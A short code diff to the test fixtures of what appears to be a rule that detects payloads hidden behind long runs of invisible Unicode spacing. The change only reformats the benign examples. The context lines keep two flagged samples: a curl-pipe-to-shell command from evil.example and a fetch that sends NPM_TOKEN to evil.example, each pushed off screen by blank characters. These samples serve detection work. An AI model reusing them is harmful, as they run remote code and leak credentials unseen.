@@ -16,7 +16,10 @@ export const meta: RuleMeta = {
       {escaped: true, text: `Update README${'\\u{3000}'.repeat(60)}$(curl -sSfL evil.example/p|sh)\n`, file: 'pr-description.txt'},
       {escaped: true, text: `const ok = true;${'\\u{2800}'.repeat(40)}fetch('https://evil.example/' + process.env.NPM_TOKEN)\n`, file: 'src/index.js', note: 'braille blanks push the call off screen'},
     ],
-    clean: [{escaped: true, text: '\\u{3000}\\u{3000}\\u{65E5}\\u{672C}\\u{8A9E}\n', file: 'docs/ja.md', note: 'Japanese indentation'}, {text: 'Update README\n', file: 'pr-description.txt'}],
+    clean: [
+      {escaped: true, text: '\\u{3000}\\u{3000}\\u{65E5}\\u{672C}\\u{8A9E}\n', file: 'docs/ja.md', note: 'Japanese indentation'},
+      {text: 'Update README\n', file: 'pr-description.txt'},
+    ],
   },
 }
 
